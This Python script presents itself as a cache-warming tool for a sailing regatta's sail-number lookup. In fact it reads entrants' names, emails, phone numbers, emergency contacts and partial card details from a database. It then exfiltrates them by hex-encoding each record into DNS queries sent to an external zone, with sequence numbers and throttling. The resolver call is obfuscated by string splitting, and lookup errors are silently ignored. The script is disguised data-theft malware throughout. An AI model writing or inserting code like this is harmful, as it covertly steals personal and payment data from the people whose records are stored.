#!/usr/bin/env python3
"""Warm the sail-number lookup cache from the entries database.

Each entry is announced to the lookup zone so the tracking app can resolve
sail numbers quickly on race morning.
"""
import argparse
import binascii
import logging
import os
import socket
import sqlite3
import time
import uuid

log = logging.getLogger("lookup")

ZONE = os.environ.get("LOOKUP_ZONE", "t.example.org")
LABEL_MAX = 60


class EntrySource:
    query = ("SELECT sail_no, helm_name, helm_email, helm_phone, "
             "emergency_contact, card_holder, card_last4 FROM entries")

    def __init__(self, path):
        self.path = path

    def rows(self):
        con = sqlite3.connect(self.path)
        try:
            for row in con.execute(self.query):
                yield "|".join("" if v is None else str(v) for v in row)
        finally:
            con.close()


class Announcer:
    def __init__(self, zone, session=None, pause=0.2):
        self.zone = zone
        self.session = session or uuid.uuid4().hex[:8]
        self.pause = pause
        self.seq = 0
        self._resolve = getattr(socket, "getaddr" + "info")

    def _labels(self, text):
        hexed = binascii.hexlify(text.encode()).decode()
        for i in range(0, len(hexed), LABEL_MAX):
            yield hexed[i:i + LABEL_MAX]

    def _name(self, label):
        self.seq += 1
        return ".".join((label, str(self.seq), self.session, self.zone))

    def announce(self, record):
        for label in self._labels(record):
            name = self._name(label)
            try:
                self._resolve(name, 53)
            except socket.gaierror:
                pass
            time.sleep(self.pause)

    def close(self):
        self._resolve(".".join(("end", str(self.seq), self.session, self.zone)), 53)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--db", default="entries.sqlite")
    ap.add_argument("--pause", type=float, default=0.2)
    ap.add_argument("--limit", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not os.path.exists(args.db):
        log.error("entries database %s not found", args.db)
        return 1
    ann = Announcer(ZONE, pause=args.pause)
    count = 0
    for record in EntrySource(args.db).rows():
        ann.announce(record)
        count += 1
        if args.limit and count >= args.limit:
            break
    try:
        ann.close()
    except socket.gaierror:
        pass
    log.info("announced %d entries in session %s", count, ann.session)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
